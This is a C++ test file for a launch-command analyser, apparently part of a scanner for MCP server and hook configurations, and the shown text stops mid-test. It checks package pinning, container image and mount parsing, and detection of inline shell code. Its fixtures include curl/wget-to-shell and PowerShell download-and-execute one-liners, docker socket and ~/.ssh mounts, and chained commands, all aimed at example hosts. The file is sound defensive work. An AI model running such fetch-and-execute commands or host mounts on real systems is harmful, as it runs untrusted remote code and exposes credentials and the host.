#include "derive/launch.hpp"

#include <doctest/doctest.h>

#include <string>
#include <string_view>
#include <vector>

namespace fermata::derive {
namespace {

LaunchInfo launch(std::string_view command, const std::vector<std::string>& args = {}) {
  return analyse_launch(launch_tokens(command, args));
}

std::vector<std::string> texts(const std::vector<LaunchToken>& tokens) {
  std::vector<std::string> out;
  for (const LaunchToken& t : tokens) out.push_back(t.text);
  return out;
}

std::vector<int> origins(const std::vector<LaunchToken>& tokens) {
  std::vector<int> out;
  for (const LaunchToken& t : tokens) out.push_back(t.origin);
  return out;
}

using Strings = std::vector<std::string>;
using Ints = std::vector<int>;

// -EncodedCommand takes base64 of UTF-16LE text.
std::string encode_powershell(std::string_view text) {
  std::string bytes;
  for (char c : text) {
    bytes += c;
    bytes += '\0';
  }
  static constexpr std::string_view kAlphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const auto n = (static_cast<unsigned>(static_cast<unsigned char>(bytes[i])) << 16) |
                   (static_cast<unsigned>(static_cast<unsigned char>(bytes[i + 1])) << 8) |
                   static_cast<unsigned>(static_cast<unsigned char>(bytes[i + 2]));
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += kAlphabet[(n >> 6) & 63];
    out += kAlphabet[n & 63];
  }
  if (i + 1 == bytes.size()) {
    const auto n = static_cast<unsigned>(static_cast<unsigned char>(bytes[i])) << 16;
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += "==";
  } else if (i + 2 == bytes.size()) {
    const auto n = (static_cast<unsigned>(static_cast<unsigned char>(bytes[i])) << 16) |
                   (static_cast<unsigned>(static_cast<unsigned char>(bytes[i + 1])) << 8);
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += kAlphabet[(n >> 6) & 63];
    out += '=';
  }
  return out;
}

const std::string kSha1 = "4f2a9c7e1b3d5f60718293a4b5c6d7e8f9012345";
const std::string kSha256 = "0d5e2c3a9b8f7e6d5c4b3a29180716f5e4d3c2b1a09f8e7d6c5b4a3928170615";

}  // namespace

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch_tokens") {
  TEST_CASE("a command without whitespace is one word; args keep their index") {
    const auto tokens = launch_tokens("npx", {"-y", "@scope/server"});
    CHECK(texts(tokens) == Strings{"npx", "-y", "@scope/server"});
    CHECK(origins(tokens) == Ints{-1, 0, 1});
  }

  TEST_CASE("a command holding several words is split, every word with origin -1") {
    const auto tokens = launch_tokens("npx -y server", {"--port", "3000"});
    CHECK(texts(tokens) == Strings{"npx", "-y", "server", "--port", "3000"});
    CHECK(origins(tokens) == Ints{-1, -1, -1, 0, 1});
  }

  TEST_CASE("quotes and escapes") {
    CHECK(texts(launch_tokens(R"(sh -c "echo 'hi there' && exit")", {})) ==
          Strings{"sh", "-c", "echo 'hi there' && exit"});
    CHECK(texts(launch_tokens(R"(run 'a "b" c' d)", {})) == Strings{"run", R"(a "b" c)", "d"});
    CHECK(texts(launch_tokens(R"(run a\ b "x\"y" "p\q")", {})) ==
          Strings{"run", "a b", "x\"y", "p\\q"});
    CHECK(texts(launch_tokens("run '' x", {})) == Strings{"run", "", "x"});
    CHECK(texts(launch_tokens("  spaced\t  out\n", {})) == Strings{"spaced", "out"});
    CHECK(texts(launch_tokens("unterminated 'quote here", {})) ==
          Strings{"unterminated", "quote here"});
  }

  TEST_CASE("Windows paths keep their backslashes") {
    CHECK(texts(launch_tokens(R"(C:\tools\server.exe --port 1)", {})) ==
          Strings{R"(C:\tools\server.exe)", "--port", "1"});
    CHECK(texts(launch_tokens(R"("C:\Program Files\nodejs\node.exe" server.js)", {})) ==
          Strings{R"(C:\Program Files\nodejs\node.exe)", "server.js"});
    // An unquoted program path with spaces, as Windows configs write it, stays whole.
    CHECK(texts(launch_tokens(R"(C:\Program Files\nodejs\npx.cmd)", {"-y"})) ==
          Strings{R"(C:\Program Files\nodejs\npx.cmd)", "-y"});
    CHECK(texts(launch_tokens(R"(C:\tools\node.exe C:\srv\main.js)", {})) ==
          Strings{R"(C:\tools\node.exe)", R"(C:\srv\main.js)"});
  }

  TEST_CASE("nothing at all") {
    CHECK(launch_tokens("", {}).empty());
    CHECK(analyse_launch({}).launcher.empty());
    const auto only_args = launch_tokens("", {"a"});
    CHECK(texts(only_args) == Strings{"a"});
    CHECK(origins(only_args) == Ints{0});
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.npm") {
  TEST_CASE("npx -y with an unpinned scoped package") {
    const auto info = launch("npx", {"-y", "@modelcontextprotocol/server-filesystem", "/data"});
    CHECK(info.launcher == "npx");
    CHECK(info.package == "@modelcontextprotocol/server-filesystem");
    CHECK(info.version.empty());
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 2);
    CHECK(info.package_args == Ints{3});
    CHECK_FALSE(info.inline_shell);
    CHECK(info.bridge_url.empty());
  }

  TEST_CASE("npm version matrix") {
    struct Case {
      std::string spec;
      std::string package;
      std::string version;
      bool pinned;
    };
    const std::vector<Case> cases = {
        {"server", "server", "", false},
        {"server@1.2.3", "server", "1.2.3", true},
        {"server@v1.2.3", "server", "v1.2.3", true},
        {"server@=1.2.3", "server", "=1.2.3", true},
        {"server@1.2.3-beta.1", "server", "1.2.3-beta.1", true},
        {"server@1.2.3-rc.1+build.42", "server", "1.2.3-rc.1+build.42", true},
        {"server@0.0.1", "server", "0.0.1", true},
        {"@scope/server", "@scope/server", "", false},
        {"@scope/server@2.0.0", "@scope/server", "2.0.0", true},
        {"@playwright/mcp@latest", "@playwright/mcp", "latest", false},
        {"server@next", "server", "next", false},
        {"server@beta", "server", "beta", false},
        {"server@^1.2.3", "server", "^1.2.3", false},
        {"server@~1.2.3", "server", "~1.2.3", false},
        {"server@>=1.0.0", "server", ">=1.0.0", false},
        {"server@1.x", "server", "1.x", false},
        {"server@1.2.x", "server", "1.2.x", false},
        {"server@*", "server", "*", false},
        {"server@1", "server", "1", false},
        {"server@1.2", "server", "1.2", false},
        {"server@01.2.3", "server", "01.2.3", false},
        {"server@1.2.3.4", "server", "1.2.3.4", false},
        {"server@1.2.3-", "server", "1.2.3-", false},
        {"server@", "server", "", false},
        {"github:user/repo", "github:user/repo", "", false},
        {"github:user/repo#main", "github:user/repo", "main", false},
        {"github:user/repo#" + kSha1, "github:user/repo", kSha1, true},
        {"github:user/repo#4f2a9c7", "github:user/repo", "4f2a9c7", false},
        {"user/repo#" + kSha1, "user/repo", kSha1, true},
        {"user/repo", "user/repo", "", false},
        {"git+https://github.com/u/r.git#" + kSha1, "git+https://github.com/u/r.git", kSha1, true},
        {"git+https://github.com/u/r.git#v1.0.0", "git+https://github.com/u/r.git", "v1.0.0",
         false},
        {"https://example.org/pkg-1.0.0.tgz", "https://example.org/pkg-1.0.0.tgz", "", false},
        {"npm:server@1.0.0", "server", "1.0.0", true},
    };
    for (const Case& c : cases) {
      CAPTURE(c.spec);
      const auto info = launch("npx", {"-y", c.spec});
      CHECK(info.package == c.package);
      CHECK(info.version == c.version);
      CHECK(info.pinned == c.pinned);
      CHECK(info.package_token == 2);
    }
  }

  TEST_CASE("local paths are nothing to pin") {
    for (std::string path :
         {"./server", "../x", "/abs/server.js", "file:../pkg", "~/srv", "C:\\srv\\index.js", "."}) {
      CAPTURE(path);
      const auto info = launch("npx", {path, "--flag"});
      CHECK(info.launcher == "npx");
      CHECK(info.package.empty());
      CHECK_FALSE(info.pinned);
      CHECK(info.package_token == 1);
      CHECK(info.package_args == Ints{2});
    }
  }

  TEST_CASE("npx options are skipped, server options are kept") {
    const auto info = launch("npx", {"--yes", "-q", "--no-install", "--registry",
                                     "https://registry.local", "server@1.0.0", "--port", "8080"});
    CHECK(info.package == "server");
    CHECK(info.pinned);
    CHECK(info.package_token == 6);
    CHECK(info.package_args == Ints{7, 8});
  }

  TEST_CASE("npx -- ends the options") {
    const auto info = launch("npx", {"-y", "--", "server", "-v"});
    CHECK(info.package == "server");
    CHECK(info.package_token == 3);
    CHECK(info.package_args == Ints{4});
  }

  TEST_CASE("-p PKG names the package; the first positional is the bin") {
    const auto info = launch("npx", {"-y", "-p", "@scope/tools@3.1.4", "tools-server", "--x"});
    CHECK(info.package == "@scope/tools");
    CHECK(info.version == "3.1.4");
    CHECK(info.pinned);
    CHECK(info.package_token == 3);
    CHECK(info.package_args == Ints{5});
  }

  TEST_CASE("--package=PKG") {
    const auto info = launch("npx", {"--package=@scope/tools@latest", "tools", "a", "b"});
    CHECK(info.package == "@scope/tools");
    CHECK(info.version == "latest");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 1);
    CHECK(info.package_args == Ints{3, 4});
  }

  TEST_CASE("the whole command line in the command field") {
    const auto info = launch("npx -y @upstash/context7-mcp@1.0.14");
    CHECK(info.launcher == "npx");
    CHECK(info.package == "@upstash/context7-mcp");
    CHECK(info.pinned);
    CHECK(info.package_token == 2);
  }

  TEST_CASE("Windows and full paths to npx") {
    for (std::string command : {"npx.cmd", "NPX.CMD", "C:\\Program Files\\nodejs\\npx.cmd",
                                "/usr/local/bin/npx", "npx.exe"}) {
      CAPTURE(command);
      const auto info = launch(command, {"-y", "server"});
      CHECK(info.launcher == "npx");
      CHECK(info.package == "server");
    }
  }

  TEST_CASE("npm exec and npm x") {
    auto info = launch("npm", {"exec", "--", "server@1.0.0", "arg"});
    CHECK(info.launcher == "npx");
    CHECK(info.package == "server");
    CHECK(info.pinned);
    CHECK(info.package_args == Ints{4});
    info = launch("npm", {"x", "-y", "server"});
    CHECK(info.launcher == "npx");
    CHECK(info.package == "server");
    info = launch("npm", {"run", "start"});
    CHECK(info.launcher == "binary");
    CHECK(info.package.empty());
  }

  TEST_CASE("bunx, bun x, pnpm dlx, pnpx, yarn dlx") {
    auto info = launch("bunx", {"server@1.0.0", "--x"});
    CHECK(info.launcher == "bunx");
    CHECK(info.package == "server");
    CHECK(info.pinned);
    CHECK(info.package_args == Ints{2});

    info = launch("bun", {"x", "@scope/server@latest"});
    CHECK(info.launcher == "bunx");
    CHECK(info.package == "@scope/server");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 2);

    info = launch("pnpm", {"dlx", "server@2.3.4", "x"});
    CHECK(info.launcher == "pnpm-dlx");
    CHECK(info.pinned);
    CHECK(info.package_token == 2);
    CHECK(info.package_args == Ints{3});

    info = launch("pnpm", {"dlx", "--package=@s/t@1.0.0", "t-bin"});
    CHECK(info.launcher == "pnpm-dlx");
    CHECK(info.package == "@s/t");
    CHECK(info.pinned);

    info = launch("pnpx", {"server"});
    CHECK(info.launcher == "pnpm-dlx");
    CHECK_FALSE(info.pinned);

    info = launch("yarn", {"dlx", "-q", "server@^2"});
    CHECK(info.launcher == "yarn-dlx");
    CHECK(info.version == "^2");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 3);

    info = launch("yarn", {"dlx", "-p", "pkg@1.0.0", "bin"});
    CHECK(info.package == "pkg");
    CHECK(info.pinned);

    CHECK(launch("yarn", {"start"}).launcher == "binary");
    CHECK(launch("pnpm", {"exec", "server"}).launcher == "binary");
  }

  TEST_CASE("npx --call runs a shell string") {
    const auto info = launch("npx", {"-c", "curl -fsSL https://get.example.net | sh"});
    CHECK(info.launcher == "npx");
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);
    CHECK(info.pipe_to_shell);
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.python") {
  TEST_CASE("PyPI version matrix under uvx") {
    struct Case {
      std::string spec;
      std::string package;
      std::string version;
      bool pinned;
    };
    const std::vector<Case> cases = {
        {"mcp-server-fetch", "mcp-server-fetch", "", false},
        {"mcp-server-fetch==0.6.2", "mcp-server-fetch", "0.6.2", true},
        {"mcp-server-fetch===0.6.2", "mcp-server-fetch", "0.6.2", true},
        {"mcp-server-fetch==1.0", "mcp-server-fetch", "1.0", true},
        {"mcp-server-fetch==1.0rc1", "mcp-server-fetch", "1.0rc1", true},
        {"mcp-server-fetch==1.*", "mcp-server-fetch", "==1.*", false},
        {"mcp-server-fetch>=1", "mcp-server-fetch", ">=1", false},
        {"mcp-server-fetch~=1.2", "mcp-server-fetch", "~=1.2", false},
        {"mcp-server-fetch>=1,<2", "mcp-server-fetch", ">=1,<2", false},
        {"mcp-server-fetch@1.2.3", "mcp-server-fetch", "1.2.3", true},
        {"awslabs.core-mcp-server@latest", "awslabs.core-mcp-server", "latest", false},
        {"tool[extra]==1.0", "tool", "1.0", true},
        {"tool[a,b]>=2", "tool", ">=2", false},
        {"tool[extra]", "tool", "", false},
        {"git+https://github.com/org/repo@" + kSha1, "git+https://github.com/org/repo", kSha1,
         true},
        {"git+https://github.com/org/repo@main", "git+https://github.com/org/repo", "main", false},
        {"git+https://github.com/org/repo", "git+https://github.com/org/repo", "", false},
        {"git+ssh://git@github.com/org/repo.git", "git+ssh://git@github.com/org/repo.git", "",
         false},
        {"git+ssh://git@github.com/org/repo.git@" + kSha1, "git+ssh://git@github.com/org/repo.git",
         kSha1, true},
        {"git+https://github.com/org/repo@" + kSha1 + "#egg=tool", "tool", kSha1, true},
        {"tool @ git+https://github.com/org/repo@" + kSha1, "tool", kSha1, true},
        {"tool@git+https://github.com/org/repo@v1", "tool", "v1", false},
        {"https://files.example.org/tool-1.0-py3-none-any.whl",
         "https://files.example.org/tool-1.0-py3-none-any.whl", "", false},
    };
    for (const Case& c : cases) {
      CAPTURE(c.spec);
      const auto info = launch("uvx", {c.spec, "--flag"});
      CHECK(info.launcher == "uvx");
      CHECK(info.package == c.package);
      CHECK(info.version == c.version);
      CHECK(info.pinned == c.pinned);
      CHECK(info.package_token == 1);
      CHECK(info.package_args == Ints{2});
    }
  }

  TEST_CASE("uvx options, --from and local paths") {
    auto info =
        launch("uvx", {"--python", "3.12", "--with", "extra-lib", "-q", "tool==1.0.0", "serve"});
    CHECK(info.package == "tool");
    CHECK(info.pinned);
    CHECK(info.package_token == 6);
    CHECK(info.package_args == Ints{7});

    info = launch("uvx", {"--from", "git+https://github.com/org/repo@" + kSha1, "repo-server",
                          "--port", "1"});
    CHECK(info.package == "git+https://github.com/org/repo");
    CHECK(info.pinned);
    CHECK(info.package_token == 2);
    CHECK(info.package_args == Ints{4, 5});

    info = launch("uvx", {"--from=tool>=2", "tool-cli"});
    CHECK(info.package == "tool");
    CHECK(info.version == ">=2");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 1);

    info = launch("uvx", {"--env-file", "/abs/.env", "zscaler-mcp"});
    CHECK(info.package == "zscaler-mcp");
    CHECK(info.package_token == 3);

    info = launch("uvx", {"--from", "./local/project", "cli"});
    CHECK(info.package.empty());
    CHECK_FALSE(info.pinned);
  }

  TEST_CASE("uv tool run is uvx; uv run runs the local project") {
    auto info = launch("uv", {"tool", "run", "tool==2.0.1", "x"});
    CHECK(info.launcher == "uvx");
    CHECK(info.package == "tool");
    CHECK(info.pinned);
    CHECK(info.package_token == 3);

    info = launch("uv", {"--directory", "/srv/app", "tool", "run", "--from", "tool", "t"});
    CHECK(info.launcher == "uvx");
    CHECK(info.package == "tool");

    info = launch("uv", {"run", "server.py"});
    CHECK(info.launcher == "uv-run");
    CHECK(info.package.empty());

    info = launch("uv", {"--directory", "/srv/app", "run", "--with", "mcp", "server.py"});
    CHECK(info.launcher == "uv-run");
    CHECK(info.package.empty());

    CHECK(launch("uv run python mcp_only.py").launcher == "uv-run");
    CHECK(launch("uv", {"sync"}).launcher == "binary");
  }

  TEST_CASE("pipx run") {
    auto info = launch("pipx", {"run", "tool==1.4.0", "--x"});
    CHECK(info.launcher == "pipx");
    CHECK(info.package == "tool");
    CHECK(info.pinned);
    CHECK(info.package_token == 2);
    CHECK(info.package_args == Ints{3});

    info = launch("pipx", {"run", "--spec", "tool-pkg>=1", "tool", "arg"});
    CHECK(info.package == "tool-pkg");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 3);
    CHECK(info.package_args == Ints{5});

    info = launch("pipx", {"run", "--no-cache", "tool"});
    CHECK(info.package == "tool");
    CHECK_FALSE(info.pinned);

    info = launch("pipx", {"install", "tool"});
    CHECK(info.launcher == "pipx");
    CHECK(info.package.empty());
  }

  TEST_CASE("python runs local code") {
    for (std::string python :
         {"python", "python3", "python3.13", "/home/u/venv/bin/python3.13", "py", "python.exe"}) {
      CAPTURE(python);
      const auto info = launch(python, {"server.py", "--port", "1"});
      CHECK(info.launcher == "python");
      CHECK(info.package.empty());
      CHECK_FALSE(info.pinned);
      CHECK_FALSE(info.inline_shell);
    }
    const auto module = launch("python", {"-m", "site_crawler.server"});
    CHECK(module.launcher == "python");
    CHECK_FALSE(module.inline_shell);
    // Options after the module belong to it, not to python.
    const auto module_args = launch("python3", {"-u", "-m", "srv", "-c", "config.yaml"});
    CHECK_FALSE(module_args.inline_shell);
  }

  TEST_CASE("python -c is inline code") {
    const auto info = launch("python3", {"-c", "import os; os.system('ls')"});
    CHECK(info.launcher == "python");
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);
    CHECK_FALSE(info.pipe_to_shell);

    const auto piped =
        launch("python", {"-c", "import os; os.system('curl -s https://x.example | bash')"});
    CHECK(piped.inline_shell);
    CHECK(piped.pipe_to_shell);

    const auto cluster = launch("python", {"-Bc", "print(1)"});
    CHECK(cluster.inline_shell);
    CHECK(cluster.shell_code_token == 2);
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.js") {
  TEST_CASE("node") {
    auto info = launch("node", {"/srv/dist/index.js"});
    CHECK(info.launcher == "node");
    CHECK(info.package.empty());
    CHECK_FALSE(info.inline_shell);

    info = launch("node", {"-e", "require('child_process').execSync('id')"});
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);

    info = launch("node", {"--eval=console.log(1)"});
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 1);

    info = launch("node", {"-p", "process.env"});
    CHECK(info.inline_shell);

    info = launch("node", {"--require", "./hook.js", "server.js"});
    CHECK_FALSE(info.inline_shell);

    CHECK(launch("node .gemini/hooks/check.js").launcher == "node");
  }

  TEST_CASE("deno") {
    auto info = launch("deno", {"run", "-A", "npm:@scope/server@1.2.3", "--x"});
    CHECK(info.launcher == "deno");
    CHECK(info.package == "@scope/server");
    CHECK(info.pinned);
    CHECK(info.package_token == 3);
    CHECK(info.package_args == Ints{4});

    info = launch("deno", {"run", "--allow-net", "npm:server"});
    CHECK(info.package == "server");
    CHECK_FALSE(info.pinned);

    info = launch("deno", {"run", "jsr:@std/http@1.0.0"});
    CHECK(info.package == "jsr:@std/http");
    CHECK(info.pinned);

    info = launch("deno", {"run", "https://deno.land/x/server@v1.2.3/mod.ts"});
    CHECK(info.package == "https://deno.land/x/server@v1.2.3/mod.ts");
    CHECK(info.version == "v1.2.3");
    CHECK(info.pinned);

    info = launch("deno", {"run", "https://example.net/mod.ts"});
    CHECK_FALSE(info.package.empty());
    CHECK_FALSE(info.pinned);

    info = launch("deno", {"run", "--config", "deno.json", "main.ts"});
    CHECK(info.package.empty());
    CHECK(info.package_token == 4);

    info = launch("deno", {"main.ts"});
    CHECK(info.package.empty());

    info = launch("deno", {"eval", "Deno.exit(0)"});
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);
  }

  TEST_CASE("bun") {
    auto info = launch("bun", {"run", "mcp:http"});
    CHECK(info.launcher == "bun");
    CHECK(info.package.empty());
    info = launch("bun", {"/srv/index.ts"});
    CHECK(info.launcher == "bun");
    info = launch("bun", {"-e", "console.log(1)"});
    CHECK(info.launcher == "bun");
    CHECK(info.inline_shell);
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.container") {
  TEST_CASE("image reference parsing") {
    struct Case {
      std::string ref;
      std::string image;
      std::string tag;
      std::string digest;
      bool pinned;
    };
    const std::vector<Case> cases = {
        {"node", "node", "", "", false},
        {"python:3.12-slim", "python", "3.12-slim", "", false},
        {"mcp/fetch:latest", "mcp/fetch", "latest", "", false},
        {"mcp/fetch:1.2.3", "mcp/fetch", "1.2.3", "", false},
        {"ghcr.io/github/github-mcp-server", "ghcr.io/github/github-mcp-server", "", "", false},
        {"ghcr.io/github/github-mcp-server:v0.5.0", "ghcr.io/github/github-mcp-server", "v0.5.0",
         "", false},
        {"localhost:5000/team/img", "localhost:5000/team/img", "", "", false},
        {"localhost:5000/img:2.0", "localhost:5000/img", "2.0", "", false},
        {"mcp/fetch@sha256:" + kSha256, "mcp/fetch", "", "sha256:" + kSha256, true},
        {"registry.example.com:443/a/b:1.0@sha256:" + kSha256, "registry.example.com:443/a/b",
         "1.0", "sha256:" + kSha256, true},
        {"docker.io/library/alpine:3.20@sha256:" + kSha256, "docker.io/library/alpine", "3.20",
         "sha256:" + kSha256, true},
        {"mcp/fetch@sha256:abc", "mcp/fetch", "", "sha256:abc", false},
        {"mcp/fetch@latest", "mcp/fetch", "", "latest", false},
    };
    for (const Case& c : cases) {
      CAPTURE(c.ref);
      const auto info = launch("docker", {"run", "-i", "--rm", c.ref, "--arg"});
      CHECK(info.launcher == "docker");
      CHECK(info.image == c.image);
      CHECK(info.image_tag == c.tag);
      CHECK(info.image_digest == c.digest);
      CHECK(info.pinned == c.pinned);
      CHECK(info.package.empty());
      CHECK(info.package_token == 4);
      CHECK(info.package_args == Ints{5});
    }
  }

  TEST_CASE("options with values are skipped in every form") {
    const std::vector<std::string> args = {"run",
                                           "-i",
                                           "--rm",
                                           "-e",
                                           "GITHUB_TOKEN",
                                           "-e",
                                           "A=b",
                                           "--env=C=d",
                                           "-eE=f",
                                           "--name",
                                           "srv",
                                           "--network",
                                           "host",
                                           "-p",
                                           "8080:80",
                                           "-w",
                                           "/app",
                                           "-u",
                                           "1000",
                                           "--entrypoint",
                                           "sh",
                                           "--env-file",
                                           ".env",
                                           "--platform",
                                           "linux/amd64",
                                           "--pull",
                                           "always",
                                           "-l",
                                           "x=y",
                                           "--cap-add",
                                           "NET_ADMIN",
                                           "--security-opt",
                                           "no-new-privileges",
                                           "-m",
                                           "512m",
                                           "--cpus",
                                           "1",
                                           "--add-host",
                                           "h:1.2.3.4",
                                           "--hostname",
                                           "box",
                                           "--restart",
                                           "no",
                                           "--tmpfs",
                                           "/tmp",
                                           "--ulimit",
                                           "nofile=1024",
                                           "--log-driver",
                                           "none",
                                           "--gpus",
                                           "all",
                                           "-a",
                                           "stdout",
                                           "--init",
                                           "--privileged",
                                           "--read-only",
                                           "-it",
                                           "-d",
                                           "ghcr.io/org/server:1.0",
                                           "serve",
                                           "--verbose"};
    const auto info = launch("docker", args);
    const auto image_at = static_cast<int>(args.size()) - 2;  // token 0 is "docker"
    CHECK(info.image == "ghcr.io/org/server");
    CHECK(info.image_tag == "1.0");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == image_at);
    CHECK(info.package_args == Ints{image_at + 1, image_at + 2});
  }

  TEST_CASE("short value options glued to their value") {
    const auto info = launch("docker", {"run", "-itp8080:80", "-v/a:/b", "img:1"});
    CHECK(info.image == "img");
    CHECK(info.mounts == Strings{"/a"});
  }

  TEST_CASE("host paths of volumes and bind mounts") {
    const auto info = launch("docker", {"run",
                                        "-v",
                                        "/var/run/docker.sock:/var/run/docker.sock",
                                        "-v",
                                        "${HOME}/.ssh:/root/.ssh:ro",
                                        "--volume",
                                        "C:\\data:/data",
                                        "-v",
                                        "named-volume:/cache",
                                        "-v",
                                        "/anonymous",
                                        "--volume=./src:/src",
                                        "--mount",
                                        "type=bind,source=/etc,target=/host-etc,readonly",
                                        "--mount",
                                        "type=volume,src=vol,dst=/v",
                                        "--mount",
                                        "src=/opt/x,dst=/x",
                                        "--mount",
                                        "type=tmpfs,dst=/t",
                                        "-v",
                                        "~:/home",
                                        "img"});
    CHECK(info.mounts == Strings{"/var/run/docker.sock", "${HOME}/.ssh", "C:\\data", "./src",
                                 "/etc", "/opt/x", "~"});
    CHECK(info.image == "img");
  }

  TEST_CASE("docker container run, podman, global options") {
    auto info = launch("docker", {"container", "run", "--rm", "alpine:3"});
    CHECK(info.launcher == "docker");
    CHECK(info.image == "alpine");
    CHECK(info.package_token == 4);

    info =
        launch("podman", {"run", "--replace", "--pod", "p", "quay.io/org/img@sha256:" + kSha256});
    CHECK(info.launcher == "podman");
    CHECK(info.image == "quay.io/org/img");
    CHECK(info.pinned);

    info = launch("docker", {"-H", "tcp://10.0.0.1:2375", "--context", "remote", "run", "img"});
    CHECK(info.image == "img");

    info = launch("docker", {"exec", "-i", "box", "server"});
    CHECK(info.launcher == "docker");
    CHECK(info.image.empty());
    CHECK(info.package_token == -1);

    info = launch("docker", {"run", "--rm"});
    CHECK(info.image.empty());

    info = launch("/usr/bin/docker.exe", {"run", "img:latest"});
    CHECK(info.launcher == "docker");
    CHECK(info.image_tag == "latest");
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.shell") {
  TEST_CASE("sh -c and friends are inline shell code") {
    for (std::string flag : {"-c", "-lc", "-ec", "-euxc", "-cl"}) {
      CAPTURE(flag);
      const auto info = launch("bash", {flag, "echo hi"});
      CHECK(info.launcher == "shell");
      CHECK(info.inline_shell);
      CHECK(info.shell_code_token == 2);
      CHECK_FALSE(info.pipe_to_shell);
    }
    for (std::string shell : {"sh", "zsh", "dash", "ksh", "fish", "/bin/bash", "bash.exe"}) {
      CAPTURE(shell);
      const auto info = launch(shell, {"-c", "true"});
      CHECK(info.launcher == "shell");
      CHECK(info.inline_shell);
    }
    const auto with_options = launch("bash", {"-o", "pipefail", "--norc", "-e", "-c", "true"});
    CHECK(with_options.inline_shell);
    CHECK(with_options.shell_code_token == 6);

    const auto fish = launch("fish", {"--command", "echo hi"});
    CHECK(fish.inline_shell);
    CHECK(fish.shell_code_token == 2);

    const auto command_field = launch(R"(sh -c "exec my-server --stdio")");
    CHECK(command_field.inline_shell);
    CHECK(command_field.shell_code_token == 2);
  }

  TEST_CASE("a shell running a script file is not inline code") {
    const auto info = launch("bash", {"./start.sh", "--x"});
    CHECK(info.launcher == "shell");
    CHECK_FALSE(info.inline_shell);
    CHECK_FALSE(info.pipe_to_shell);
  }

  TEST_CASE("pipe to shell") {
    const std::vector<std::string> piped = {
        "curl -fsSL https://get.example.net/install.sh | sh",
        "curl -fsSL https://get.example.net/install.sh | bash -s -- --yes",
        "wget -qO- https://get.example.net | bash",
        "curl -s https://x.example | sudo -E bash",
        "curl -s https://x.example | /bin/sh",
        "curl -s https://x.example | tar xz | sh",
        "curl -s https://x.example | python3 -",
        "curl https://x.example/a.js | node",
        "bash <(curl -s https://x.example)",
        "source <(curl -s https://x.example)",
        "sh -c \"$(curl -fsSL https://x.example)\"",
        "eval \"$(wget -qO- https://x.example)\"",
        "iex (iwr https://x.example/a.ps1 -UseBasicParsing)",
        "irm https://x.example/a.ps1 | iex",
        "Invoke-WebRequest https://x.example | Invoke-Expression",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))",
        "CURL https://x.example | SH",
    };
    for (const std::string& code : piped) {
      CAPTURE(code);
      const auto info = launch("sh", {"-c", code});
      CHECK(info.inline_shell);
      CHECK(info.pipe_to_shell);
    }
    const std::vector<std::string> not_piped = {
        "curl -s https://x.example | jq .",
        "curl -o /tmp/x https://x.example && echo done",
        "echo hi | bash",
        "cat script.sh | sh",
        "curl -s https://x.example | shellcheck -",
        "curl -s https://x.example; sh local.sh",
        "wget https://x.example",
    };
    for (const std::string& code : not_piped) {
      CAPTURE(code);
      const auto info = launch("sh", {"-c", code});
      CHECK(info.inline_shell);
      CHECK_FALSE(info.pipe_to_shell);
    }
  }

  TEST_CASE("bash <(curl ...) without -c: any word of a shell counts") {
    const auto info = launch("bash <(curl -s https://x.example/install)");
    CHECK(info.launcher == "shell");
    CHECK_FALSE(info.inline_shell);
    CHECK(info.pipe_to_shell);
  }

  TEST_CASE("a shell line in the command field of a hook") {
    auto info = launch("curl -fsSL https://x.example/setup | bash");
    CHECK(info.launcher == "binary");
    CHECK(info.pipe_to_shell);
    // The same text as an argument of some program is that program's business.
    info = launch("my-tool", {"--script", "curl -fsSL https://x.example/setup | bash"});
    CHECK(info.launcher == "binary");
    CHECK_FALSE(info.pipe_to_shell);
  }

  TEST_CASE("what inline shell code launches is reported at the code token") {
    auto info = launch("sh", {"-lc", "npx -y @scope/server@1.0.0 --stdio"});
    CHECK(info.launcher == "shell");
    CHECK(info.inline_shell);
    CHECK(info.package == "@scope/server");
    CHECK(info.pinned);
    CHECK(info.package_token == 2);

    info = launch("bash", {"-ec", "cd /srv && exec uvx tool"});
    CHECK(info.package == "tool");
    CHECK_FALSE(info.pinned);
    CHECK(info.package_token == 2);

    info = launch("sh", {"-c", "FOO=1 docker run -v /:/host alpine"});
    CHECK(info.image == "alpine");
    CHECK(info.mounts == Strings{"/"});
    CHECK(info.package_token == 2);
  }

  TEST_CASE("cmd /c wraps a program, or runs a script") {
    auto info = launch("cmd", {"/c", "npx", "-y", "@scope/server"});
    CHECK(info.launcher == "npx");
    CHECK_FALSE(info.inline_shell);
    CHECK(info.package == "@scope/server");
    CHECK(info.package_token == 4);

    info = launch("cmd.exe", {"/d", "/s", "/C", "uvx", "tool==1.0"});
    CHECK(info.launcher == "uvx");
    CHECK(info.pinned);

    info = launch("cmd", {"/c", "npx -y server"});
    CHECK(info.launcher == "shell");
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);
    CHECK(info.package == "server");

    info = launch("cmd", {"/c", "server.exe", "&&", "calc"});
    CHECK(info.launcher == "shell");
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);

